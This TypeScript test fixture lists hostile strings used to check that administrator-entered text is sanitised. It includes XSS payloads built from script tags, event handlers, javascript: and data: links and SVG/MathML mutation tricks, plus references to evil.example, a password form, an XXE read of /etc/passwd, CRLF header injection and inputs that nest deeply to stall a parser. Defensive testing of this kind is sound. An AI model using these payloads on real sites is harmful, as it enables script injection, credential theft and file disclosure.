const deep = (open: string, times: number) => open.repeat(times);

/**
 * Texts that could run a script, break out of their place or take long to read, for every text that administrators write. Each
 * that could run one sets `hostile` on the window, or opens a dialog. Names are for the titles of tests.
 */
export const hostileSamples: Readonly<Record<string, string>> = {
  "a script": "<script>hostile=1</script>",
  "a script in mixed case": "<ScRiPt >alert(1)</sCrIpT\t\n bar>",
  "a script that is not closed": "<script src=//evil.example/x.js",
  "a nested script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "the end of a script": "</script><script>hostile=1</script>",
  "the end of the page's state": '"}</script><img src=x onerror=hostile=1>',
  "the end of a title": "</title><script>hostile=1</script>",
  "the end of an attribute": '" onmouseover="hostile=1" x=\'',
  "the end of an attribute in single quotes": "' onfocus='hostile=1' autofocus x=\"",
  "the end of a meta": '"><meta http-equiv="refresh" content="0;url=javascript:hostile=1">',
  "an image with onerror": "<img src=x onerror=alert(1)>",
  "an image with a slash": "<img/src=x/onerror=alert(1)//",
  "an svg": "<svg onload=alert(1)>",
  "an svg with a script": "<svg><script>hostile=1</script></svg>",
  "an svg that animates a link":
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
  "an svg's foreign object": "<svg><foreignObject><iframe onload=hostile=1></iframe></foreignObject></svg>",
  "an svg's use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  math: '<math><mi xlink:href="javascript:hostile=1">x</mi></math>',
  "a mutation of math":
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "a style": "<style>@import'//evil.example/x.css';*{background:url(javascript:hostile=1)}</style>",
  "a style attribute": '<p style="position:fixed;inset:0;background:red">x</p>',
  "a meta refresh": '<meta http-equiv=refresh content="0;url=//evil.example">',
  "a base": '<base href="//evil.example/">',
  "a link": '<link rel=stylesheet href="//evil.example/x.css">',
  "a form":
    '<form action="//evil.example"><input name=password><button formaction=javascript:hostile=1>x</button></form>',
  "an iframe": '<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>',
  "an object": '<object data="data:text/html,<script>hostile=1</script>"></object><embed src=javascript:hostile=1>',
  details: "<details open ontoggle=hostile=1>x</details>",
  "a video": "<video><source onerror=hostile=1></video><audio src onerror=hostile=1>",
  "a template":
    '<template><script>hostile=1</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "a comment": "<!-- --!><script>hostile=1</script> -->",
  cdata: "<![CDATA[<script>hostile=1</script>]]>",
  "the end of cdata": "]]><script>hostile=1</script>",
  "a processing instruction":
    '<?xml-stylesheet href="javascript:hostile=1"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  entities: "&lt;script&gt;hostile=1&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;lt;",
  "a javascript link": "[x](javascript:alert(1))",
  "a javascript link in mixed case": "[x](JaVaScRiPt:alert`1`)",
  "a javascript link with entities":
    "[x](&#106;avascript&colon;alert&lpar;1&rpar;) [y](&#x6A&#x61&#x76&#x61script:alert(1))",
  "a javascript link with control characters":
    "[x](<java\tscript:alert(1)>) [y](\x01javascript:alert(1)) [z](java%0ascript:alert(1))",
  "a data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "a vbscript link": "[x](vbscript:msgbox(1)) [y](VBSCRIPT:x) [z](file:///etc/passwd) [w](blob:x)",
  "protocol-relative links":
    "[x](//evil.example) [y](/\\evil.example) [z](\\\\evil.example) ![w](//evil.example/x.png)",
  "a link with a quote": '[x](https://a.example/"onmouseover="hostile=1) [y](<https://a.example/ onclick=hostile=1>)',
  "a link's title": '[x](https://a.example "\\" onmouseover=hostile=1 x=\\"")',
  "a link by reference": '[x]\n\n[x]: javascript:alert(1) "t"\n\n[y][x] ![z][x]',
  "automatic links":
    '<javascript:alert(1)> <https://a.example/"onclick=hostile=1> javascript:alert(1) www.evil.example',
  "nested brackets": "[a[b](javascript:alert(1))](https://a.example) [![x](javascript:alert(1))](javascript:alert(1))",
  "an image of a script": "![x](javascript:alert(1)) ![y](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
  "an image from elsewhere": "![x](https://evil.example/x.png) ![y](http://127.0.0.1/x.png) ![z](/uploads/private.svg)",
  "an image with a quote": '![" onerror="hostile=1](/art/x" onerror="hostile=1) ![x](</art/a.avif" onerror=alert(1)>)',
  "an image out of its folder": "![x](/art/../api/logout) ![y](/art/%2e%2e/x) ![z](/art//evil.example/x.png)",
  code: "`<script>hostile=1</script>`\n\n```html\n<img src=x onerror=alert(1)>\n```\n\n    <script>hostile=1</script>",
  "a table": "|<script>hostile=1</script>|x|\n|-|-|\n|[x](javascript:alert(1))|<img src=x onerror=alert(1)>|",
  "replacement patterns": "$& $` $' $1 $$ ${hostile} {{hostile}} <%= hostile %> #{hostile} \\u003cscript\\u003e",
  "the template's own marks": "<!--app--><!--head--><!--state--> the page's picture /",
  "line ends for headers": "x\r\nBcc: evil@evil.example\r\nSet-Cookie: a=b\r\n\r\n<script>hostile=1</script>",
  "other line ends": "x\u2028y\u2029z\u0085w\v\f",
  "control characters": "\x01\x02\b\x0b\x0c\x1b[31m\x7f\x80\x9f<b>\x1f",
  "noncharacters and a lone surrogate": "\ufffe\uffff\ufdd0 \ud800<script>\udc00 \u{10ffff}",
  "bidi overrides": "\u202e>tpircs<\u202c \u2066\u2067\u2068 \u200b\u200e\ufeff\u2069",
  "many combining marks": `e${"\u0301".repeat(500)} ${"\u{e0041}".repeat(50)}`,
  "deep quotes": deep("> ", 5000),
  "deep lists": deep("- ", 5000),
  "a run of brackets": deep("[", 20_000),
  "a run of stars": `${deep("*a ", 5000)}${deep("**", 2000)}`,
  "a run of links": `${deep("[a](", 4000)}${deep("![", 4000)}`,
  "a run of entities": `${deep("&amp;", 3000)}${deep("<!--", 1000)}`,
};
